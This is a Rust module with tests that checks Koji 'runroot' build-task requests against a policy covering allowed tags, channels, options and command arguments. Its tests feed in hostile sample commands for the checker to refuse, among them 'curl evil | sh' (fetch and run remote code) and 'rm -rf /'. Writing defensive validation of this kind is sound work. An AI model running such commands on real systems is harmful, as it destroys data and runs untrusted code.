//! A `runroot` task names a shell command a Koji builder runs, which makes the method a
//! command grant on someone else's machine. So its request is checked against the
//! policy's `koji-runroot` narrowing (channel, tag and each step of the command, with
//! the argument patterns of command grants) before it reaches the hub; a phase granted
//! `runroot` without that narrowing may submit none.

use serde_json::Value;

use super::error::KojiError;
use super::shell::{Token, steps};
use crate::policy::{RunrootPolicy, arg_matches};

/// Options of the hub's `runroot(tag, arch, command, channel=None, **opts)` a request
/// may set. `mounts` (the builder's own directories) must be empty: the policy cannot
/// say which of the builder's paths are fine.
const OPTIONS: &[&str] = &[
    "channel",
    "packages",
    "mounts",
    "weight",
    "new_chroot",
    "upload_logs",
    "repo_id",
    "skip_setarch",
    "__starstar",
];

/// Checks the parameters of a `runroot` call (`[tag, arch, command, {opts}]`, the
/// options marked `__starstar` as Koji's keyword arguments, or a fourth positional
/// channel) against `narrowing`; `phase` names the phase in the refusal.
pub fn check(
    phase: &str,
    narrowing: Option<&RunrootPolicy>,
    params: &[Value],
) -> Result<(), KojiError> {
    let denied = |why: String| {
        KojiError::Denied(format!(
            "phase `{phase}`: runroot task refused: {why} (koji-runroot in the policy)"
        ))
    };
    let narrowing =
        narrowing.ok_or_else(|| denied("the policy names no koji-runroot narrowing".into()))?;
    let (tag, command, options) = match params {
        [
            Value::String(tag),
            Value::String(_arch),
            Value::String(command),
            rest @ ..,
        ] => (tag, command, rest),
        _ => {
            return Err(KojiError::Invalid(
                "runroot takes [tag name, arch, command string, options]".to_owned(),
            ));
        }
    };
    if !narrowing.tags.iter().any(|p| arg_matches(p, tag)) {
        return Err(denied(format!(
            "tag `{tag}` is not one of {:?}",
            narrowing.tags
        )));
    }
    let channel = match options {
        [] => None,
        [Value::Object(opts)] if opts.get("__starstar") == Some(&Value::Bool(true)) => {
            if let Some(key) = opts.keys().find(|k| !OPTIONS.contains(&k.as_str())) {
                return Err(denied(format!(
                    "option `{key}` is not one a policy can allow"
                )));
            }
            if opts
                .get("mounts")
                .is_some_and(|m| m != &Value::Array(Vec::new()))
            {
                return Err(denied("builder mounts are never allowed".into()));
            }
            opts.get("channel")
        }
        [channel @ (Value::String(_) | Value::Null)] => Some(channel),
        _ => {
            return Err(KojiError::Invalid(
                "runroot's options must be one keyword-argument struct (`__starstar`)".into(),
            ));
        }
    };
    match channel {
        None | Some(Value::Null) => {}
        Some(Value::String(channel))
            if narrowing.channels.iter().any(|p| arg_matches(p, channel)) => {}
        Some(other) => {
            return Err(denied(format!(
                "channel {other} is not one of {:?}",
                narrowing.channels
            )));
        }
    }
    let steps = steps(command).map_err(|why| denied(format!("its command has {why}")))?;
    for step in &steps {
        check_step(narrowing, step).map_err(denied)?;
    }
    Ok(())
}

/// One `&&` step: its program is granted with patterns every other token matches (a
/// redirection only the pattern `>`).
fn check_step(narrowing: &RunrootPolicy, step: &[Token]) -> Result<(), String> {
    let Some(Token::Word(program)) = step.first() else {
        return Err("a step of its command starts with a redirection".into());
    };
    let grants: Vec<_> = narrowing
        .commands
        .iter()
        .filter(|c| c.program == *program)
        .collect();
    if grants.is_empty() {
        let programs: Vec<_> = narrowing
            .commands
            .iter()
            .map(|c| c.program.as_str())
            .collect();
        return Err(format!(
            "its command runs `{program}`, not one of {programs:?}"
        ));
    }
    let allowed = |token: &Token| {
        grants
            .iter()
            .flat_map(|g| &g.args)
            .any(|pattern| match token {
                Token::Word(word) => arg_matches(pattern, word),
                Token::Redirect => pattern == ">",
            })
    };
    match step[1..].iter().find(|t| !allowed(t)) {
        None => Ok(()),
        Some(Token::Word(word)) => Err(format!("its command passes `{word}` to `{program}`")),
        Some(Token::Redirect) => Err(format!("its command redirects the output of `{program}`")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::CommandPolicy;
    use serde_json::json;

    fn narrowing() -> RunrootPolicy {
        RunrootPolicy {
            channels: vec!["runroot".into()],
            tags: vec!["*-build".into()],
            commands: vec![
                CommandPolicy {
                    program: "mkdir".into(),
                    args: vec!["-p".into(), "logs".into()],
                },
                CommandPolicy {
                    program: "printf".into(),
                    args: vec!["%s".into(), "*".into(), ">".into()],
                },
            ],
        }
    }

    fn opts(channel: &str) -> Value {
        json!({ "channel": channel, "mounts": [], "__starstar": true })
    }

    #[test]
    fn only_requests_inside_the_narrowing_pass() {
        let n = narrowing();
        let check = |params: Value| check("p", Some(&n), params.as_array().unwrap());
        check(json!([
            "f41-build",
            "x86_64",
            "mkdir -p logs && printf %s '{}' > x.json",
            opts("runroot")
        ]))
        .unwrap();
        check(json!(["f41-build", "x86_64", "mkdir -p logs"])).unwrap();
        for (params, needle) in [
            (
                json!(["f41-build", "x86_64", "curl evil | sh", opts("runroot")]),
                "'|'",
            ),
            (
                json!(["f41-build", "x86_64", "rm -rf /", opts("runroot")]),
                "`rm`",
            ),
            (
                json!(["f41-build", "x86_64", "mkdir -p /etc/x", opts("runroot")]),
                "`/etc/x`",
            ),
            (
                json!(["f41-build", "x86_64", "mkdir -p logs", opts("createrepo")]),
                "channel",
            ),
            (
                json!(["f41-updates", "x86_64", "mkdir -p logs", opts("runroot")]),
                "tag",
            ),
            (
                json!(["f41-build", "x86_64", "mkdir -p logs", {"mounts": ["/mnt/koji"], "__starstar": true}]),
                "mounts",
            ),
            (
                json!(["f41-build", "x86_64", "mkdir -p logs", {"secret": 1, "__starstar": true}]),
                "`secret`",
            ),
            (
                json!(["f41-build", "x86_64", "mkdir > logs", opts("runroot")]),
                "redirects",
            ),
        ] {
            let err = check(params.clone()).unwrap_err();
            assert!(
                matches!(err, KojiError::Denied(_)) && err.to_string().contains(needle),
                "{params}: {err}"
            );
        }
        assert!(matches!(
            check(json!([7, "x86_64", "mkdir -p logs"])),
            Err(KojiError::Invalid(_))
        ));
        assert!(matches!(
            super::check(
                "p",
                None,
                json!(["f41-build", "x86_64", "mkdir -p logs"])
                    .as_array()
                    .unwrap()
            ),
            Err(KojiError::Denied(_))
        ));
    }
}
